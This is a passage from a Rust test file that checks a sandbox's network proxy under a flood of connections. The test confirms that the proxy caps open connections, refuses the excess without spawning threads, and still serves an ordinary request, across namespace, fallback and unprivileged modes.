    assert_eq!(flood.trim(), format!("{max} {} 0", 2000 - max), "tunnels, refusals, other");
    assert!(threads <= 8, "the proxy's process runs {threads} threads with {max} connections open");
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "hello", "{}", String::from_utf8_lossy(&out.stderr));
    let hits: Vec<String> =
        retry_run::sandbox::limits_hit(&log).iter().map(retry_run::sandbox::LimitHit::describe).collect();
    // The flood's refusals, and any of the last request's tries that came
    // before the proxy saw the held tunnels close (the script tries again).
    let said = format!("the network proxy serves {max} connections at once; ");
    let refused: Option<usize> = match hits.as_slice() {
        [one] => {
            one.strip_prefix(&said).and_then(|r| r.strip_suffix(" more were refused")).and_then(|n| n.parse().ok())
        }
        _ => None,
    };
    assert!(refused.is_some_and(|n| (2000 - max..=2000 - max + 50).contains(&n)), "{hits:?}");
}

in_each_mode!(
    a_flood_of_connections_costs_the_proxy_no_thread_and_ordinary_requests_pass:
    a_flood_of_connections_costs_the_proxy_no_thread_and_ordinary_requests_pass_under_namespaces,
    a_flood_of_connections_costs_the_proxy_no_thread_and_ordinary_requests_pass_under_the_fallback,
    a_flood_of_connections_costs_the_proxy_no_thread_and_ordinary_requests_pass_as_an_unprivileged_user
);
